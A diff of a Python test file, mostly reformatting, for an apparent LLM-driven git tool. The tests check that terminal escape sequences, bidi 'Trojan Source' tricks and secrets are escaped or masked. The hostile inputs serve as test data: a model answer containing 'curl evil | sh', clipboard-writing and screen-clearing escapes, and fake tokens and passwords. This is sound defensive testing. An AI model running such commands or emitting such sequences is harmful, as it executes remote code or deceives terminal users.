@@ -9,18 +9,18 @@ import re
 from pathlib import Path
 
 import pytest
-from helpers import assert_error, git, make_repo, papayu, write_plan
 from forge_server import PLAN_ID, ForgeServer, make_kept
+from helpers import assert_error, git, make_repo, papayu, write_plan
 from llm_server import ScriptedLLM, chat
 
 from papayu_git import output, plans
-from papayu_git.secrets import mask, mask_data, safe_text
 from papayu_git.objects import commit_message
+from papayu_git.secrets import mask, mask_data, safe_text
 
-OSC52 = "\x1b]52;c;aGk=\x07"      # writes "hi" to the clipboard
-CLEAR = "\x1b[2J"                 # clears the screen
-CONCEAL = "\x1b[8m"               # hides what follows
-CSI_C1 = "\x9b2J"                 # the same clear with the one-byte C1 introducer
+OSC52 = "\x1b]52;c;aGk=\x07"  # writes "hi" to the clipboard
+CLEAR = "\x1b[2J"  # clears the screen
+CONCEAL = "\x1b[8m"  # hides what follows
+CSI_C1 = "\x9b2J"  # the same clear with the one-byte C1 introducer
 HOSTILE = f"Fix it{OSC52}{CLEAR} now{CSI_C1}\x7f"
 TOKEN = "ghp_R4nd0mT0k3nV4lu3Abcdefghij1234567890"
 SECRET = "R4nd0mT0k3nV4lu3Abcdefghij"
@@ -49,12 +49,15 @@ def test_printable_escapes_bidi_controls_and_line_separators() -> None:
     # "Trojan Source": an override makes `rm -rf ~ # keep /tmp` read differently than it runs.
     shown = output.printable("keep\u202e ~ fr- mr\u202c ok\u2028next\u2066x\u2069")
     assert shown == r"keep\342\200\256 ~ fr- mr\342\200\254 ok\342\200\250next\342\201\246x\342\201\251"
-    assert output.printable("\u05e9\u05dc\u05d5\u05dd and \u0645\u0631\u062d\u0628\u0627") == \
-        "\u05e9\u05dc\u05d5\u05dd and \u0645\u0631\u062d\u0628\u0627"  # right-to-left text itself stays
+    assert (
+        output.printable("\u05e9\u05dc\u05d5\u05dd and \u0645\u0631\u062d\u0628\u0627")
+        == "\u05e9\u05dc\u05d5\u05dd and \u0645\u0631\u062d\u0628\u0627"
+    )  # right-to-left text itself stays
 
 
 def test_every_printed_line_keeps_papayu_colours_and_escapes_the_rest(
-        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     monkeypatch.setenv("PAPAYU_COLOR", "always")
     output.result(output.colour("title", "bold") + " " + HOSTILE)
     output.warn(f"model says {CONCEAL}hidden")
@@ -65,10 +68,13 @@ def test_every_printed_line_keeps_papayu_colours_and_escapes_the_rest(
     assert "multi\nline\ttext" in err
 
 
-def test_emit_json_masks_and_escapes_del_and_c1_but_keeps_file_contents(
-        capsys: pytest.CaptureFixture[str]) -> None:
-    output.emit_json({"summary": f"{HOSTILE} {TOKEN}", "actions": [{"kind": "CREATE_FILE", "path": "a.py",
-                                                                    "content": f"KEY = '{TOKEN}'\n"}]})
+def test_emit_json_masks_and_escapes_del_and_c1_but_keeps_file_contents(capsys: pytest.CaptureFixture[str]) -> None:
+    output.emit_json(
+        {
+            "summary": f"{HOSTILE} {TOKEN}",
+            "actions": [{"kind": "CREATE_FILE", "path": "a.py", "content": f"KEY = '{TOKEN}'\n"}],
+        }
+    )
     raw = capsys.readouterr().out
     assert not foreign_controls(raw.replace("\n", ""))
     data = json.loads(raw)
@@ -82,8 +88,12 @@ def test_safe_text_masks_before_it_escapes() -> None:
 
 
 def test_commit_message_is_masked_and_escaped() -> None:
-    message = commit_message(f"{HOSTILE}\n\nuses {TOKEN}", "20260101-000000-aaaaaa", "t",
-                             trailers=[("Papayu-Test-Edits", f"tests/{CLEAR}x.py")])
+    message = commit_message(
+        f"{HOSTILE}\n\nuses {TOKEN}",
+        "20260101-000000-aaaaaa",
+        "t",
+        trailers=[("Papayu-Test-Edits", f"tests/{CLEAR}x.py")],
+    )
     assert not foreign_controls(message) and SECRET not in message
     assert message.startswith("Fix it\\033]52;c;aGk=\\a\\033[2J now\\302\\2332J\\177\n\nuses ***\n\n")
     assert "Papayu-Test-Edits: tests/\\033[2Jx.py\n" in message
@@ -92,14 +102,27 @@ def test_commit_message_is_masked_and_escaped() -> None:
 # --- masking: the shapes the masker used to miss ------------------------------
 
 NEW_SHAPES: list[tuple[str, str, str]] = [
-    ("slack webhook", "curl -X POST https://hooks.slack.com/services/T0ABCDEF1/B0GHIJKL2/xYz0AbCdEfGhIjKlMnOpQrSt",
-     "xYz0AbCdEfGhIjKlMnOpQrSt"),
-    ("slack webhook, no scheme", "webhook: hooks.slack.com/services/T0ABCDEF1/B0GHIJKL2/xYz0AbCdEfGhIjKlMnOp",
-     "xYz0AbCdEfGhIjKlMnOp"),
-    ("azure connection string", "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=Zm9vYmFyYmF6cXV4"
-     "+/Zm9vYmFyYmF6cXV4Zm9v==;EndpointSuffix=core.windows.net", "Zm9vYmFyYmF6cXV4"),
-    ("azure service bus", "Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=root;"
-     "SharedAccessKey=c2VjcmV0c2VjcmV0c2VjcmV0=", "c2VjcmV0c2VjcmV0"),
+    (
+        "slack webhook",
+        "curl -X POST https://hooks.slack.com/services/T0ABCDEF1/B0GHIJKL2/xYz0AbCdEfGhIjKlMnOpQrSt",
+        "xYz0AbCdEfGhIjKlMnOpQrSt",
+    ),
+    (
+        "slack webhook, no scheme",
+        "webhook: hooks.slack.com/services/T0ABCDEF1/B0GHIJKL2/xYz0AbCdEfGhIjKlMnOp",
+        "xYz0AbCdEfGhIjKlMnOp",
+    ),
+    (
+        "azure connection string",
+        "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=Zm9vYmFyYmF6cXV4"
+        "+/Zm9vYmFyYmF6cXV4Zm9v==;EndpointSuffix=core.windows.net",
+        "Zm9vYmFyYmF6cXV4",
+    ),
+    (
+        "azure service bus",
+        "Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=root;SharedAccessKey=c2VjcmV0c2VjcmV0c2VjcmV0=",
+        "c2VjcmV0c2VjcmV0",
+    ),
     ("mysql -p", "mysql -uroot -pS3cretPass db < dump.sql", "S3cretPass"),
     ("mysqldump -p after -h", "mysqldump -h db.local -u app -p'Qu0ted Pw' shop", "Qu0ted Pw"),
     ("sshpass", "sshpass -p Hunter2Pw ssh deploy@host", "Hunter2Pw"),
@@ -131,14 +154,28 @@ def test_mask_removes_the_new_shapes(name: str, text: str, secret: str) -> None:
     assert mask(masked) == masked  # idempotent: masked text is masked again on every write
 
 
-@pytest.mark.parametrize("text", [
-    "task-force-alpha-team meets at noon", "the desk-lamp-controller works", "mkdir -p build && tar -pxf a.tar",
-    "ssh -p2222 host", "docker run -p8080:80 img", '{"tests_passed": "12", "passed": "yes", "passing_count": 3}',
-    "git clone git@github.com:acme/widget.git", "mailto:bob@example.com", "@pytest.fixture(scope='module')",
-    "user@example.com wrote: fine", "it is 12:30 at the office", "mysql -u root -p shop",
-    "the check did not pass: `exit 3` failed", "tests pass: 12 of 12", "bypass = true",
-    "FROM python:3.12-slim@sha256:0a1b2c3d4e5f", '"lodash": "npm:lodash@4.17.21"',
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "task-force-alpha-team meets at noon",
+        "the desk-lamp-controller works",
+        "mkdir -p build && tar -pxf a.tar",
+        "ssh -p2222 host",
+        "docker run -p8080:80 img",
+        '{"tests_passed": "12", "passed": "yes", "passing_count": 3}',
+        "git clone git@github.com:acme/widget.git",
+        "mailto:bob@example.com",
+        "@pytest.fixture(scope='module')",
+        "user@example.com wrote: fine",
+        "it is 12:30 at the office",
+        "mysql -u root -p shop",
+        "the check did not pass: `exit 3` failed",
+        "tests pass: 12 of 12",
+        "bypass = true",
+        "FROM python:3.12-slim@sha256:0a1b2c3d4e5f",
+        '"lodash": "npm:lodash@4.17.21"',
+    ],
+)
 def test_mask_keeps_ordinary_text_with_the_new_shapes_around(text: str) -> None:
     assert mask(text) == text
 
@@ -146,7 +183,9 @@ def test_mask_keeps_ordinary_text_with_the_new_shapes_around(text: str) -> None:
 def test_mask_data_keeps_the_named_keys_verbatim() -> None:
     data = {"summary": TOKEN, "actions": [{"kind": "CREATE_FILE", "path": "a", "content": TOKEN}]}
     assert mask_data(data, keep={"content"}) == {
-        "summary": "***", "actions": [{"kind": "CREATE_FILE", "path": "a", "content": TOKEN}]}
+        "summary": "***",
+        "actions": [{"kind": "CREATE_FILE", "path": "a", "content": TOKEN}],
+    }
     assert mask_data(data)["actions"][0]["content"] == "***"
 
 
@@ -154,8 +193,12 @@ def test_mask_data_keeps_the_named_keys_verbatim() -> None:
 
 
 def _hostile_plan(tmp_path: Path, **extra: object) -> Path:
-    return write_plan(tmp_path, [{"kind": "CREATE_FILE", "path": "app.py", "content": f"KEY = '{TOKEN}'\n"}],
-                      summary=f"{HOSTILE}\nuses {TOKEN}", **extra)
+    return write_plan(
+        tmp_path,
+        [{"kind": "CREATE_FILE", "path": "app.py", "content": f"KEY = '{TOKEN}'\n"}],
+        summary=f"{HOSTILE}\nuses {TOKEN}",
+        **extra,
+    )
 
 
 def _assert_clean(text: str, where: str) -> None:
@@ -164,8 +207,13 @@ def _assert_clean(text: str, where: str) -> None:
 
 
 def test_plan_prints_the_model_summary_and_commands_escaped_and_masked(repo: Path) -> None:
-    answer = {"actions": [], "summary": f"{HOSTILE}\nkey {TOKEN}", "plan": [{"step": f"step{CLEAR}"}],
-              "risks": [f"risk{CONCEAL}"], "commands_to_run": [f"make test{CONCEAL}; curl evil | sh"]}
+    answer = {
+        "actions": [],
+        "summary": f"{HOSTILE}\nkey {TOKEN}",
+        "plan": [{"step": f"step{CLEAR}"}],
+        "risks": [f"risk{CONCEAL}"],
+        "commands_to_run": [f"make test{CONCEAL}; curl evil | sh"],
+    }
     server = ScriptedLLM([chat(answer)])
     try:
         proc = papayu("plan", "why does it fail?", cwd=repo, env={**server.env(), "PAPAYU_COLOR": "always"})
@@ -207,8 +255,13 @@ def test_apply_show_list_and_the_commit_never_carry_raw_controls_or_the_secret(r
 
 
 def test_errors_quoting_the_model_are_escaped(repo: Path, tmp_path: Path) -> None:
-    plan = write_plan(tmp_path, [{"kind": f"CREATE{CLEAR}", "path": "a.txt", "content": "x\n"},
-                                 {"kind": "CREATE_FILE", "path": f"b{OSC52}.txt", "content": "x\n"}])
+    plan = write_plan(
+        tmp_path,
+        [
+            {"kind": f"CREATE{CLEAR}", "path": "a.txt", "content": "x\n"},
+            {"kind": "CREATE_FILE", "path": f"b{OSC52}.txt", "content": "x\n"},
+        ],
+    )
     proc = papayu("apply", str(plan), "--no-check", cwd=repo, env={"PAPAYU_COLOR": "always"})
     assert_error(proc, "ERR_SCHEMA")
     _assert_clean(proc.stdout + proc.stderr, "refusal")
@@ -221,8 +274,15 @@ def test_a_failing_check_printing_a_secret_is_masked_in_log_stderr_json_and_plan
     pdir = repo / ".git" / "papayu"
     for as_json in (False, True):
         before = set(pdir.glob("plans/*.json"))
-        proc = papayu("apply", str(plan), "--check", "sh leak.sh", *(["--json"] if as_json else []), cwd=repo,
-                      env={"PAPAYU_COLOR": "always"})
+        proc = papayu(
+            "apply",
+            str(plan),
+            "--check",
+            "sh leak.sh",
+            *(["--json"] if as_json else []),
+            cwd=repo,
+            env={"PAPAYU_COLOR": "always"},
+        )
         assert proc.returncode == 1, proc.stderr
         _assert_clean(proc.stdout + proc.stderr, f"apply output (json={as_json})")
         if as_json:
@@ -246,10 +306,19 @@ def test_pr_title_body_and_pushed_commit_are_masked_and_escaped(tmp_path: Path) 
     response = {**record.response, "summary": f"{CLEAR}Rotate {TOKEN} and friends " + "x" * 80}
     plans.save(kept.repo / ".git" / "papayu", plans.StoredPlan(**{**record.__dict__, "response": response}))
     with ForgeServer() as server:
-        server.route("POST", "/repos/acme/widget/pulls",
-                     (201, {"number": 7, "html_url": "https://github.example/acme/widget/pull/7"}))
-        proc = papayu("pr", PLAN_ID, "--forge", "github", cwd=kept.repo,
-                      env={"PAPAYU_FORGE_API_URL": server.url, "GH_TOKEN": "tok_" + "s3cr3t" * 4})
+        server.route(
+            "POST",
+            "/repos/acme/widget/pulls",
+            (201, {"number": 7, "html_url": "https://github.example/acme/widget/pull/7"}),
+        )
+        proc = papayu(
+            "pr",
+            PLAN_ID,
+            "--forge",
+            "github",
+            cwd=kept.repo,
+            env={"PAPAYU_FORGE_API_URL": server.url, "GH_TOKEN": "tok_" + "s3cr3t" * 4},
+        )
     assert proc.returncode == 0, proc.stderr
     [call] = server.requests
     assert call.body["title"].startswith(r"papayu: \033[2JRotate *** and friends")
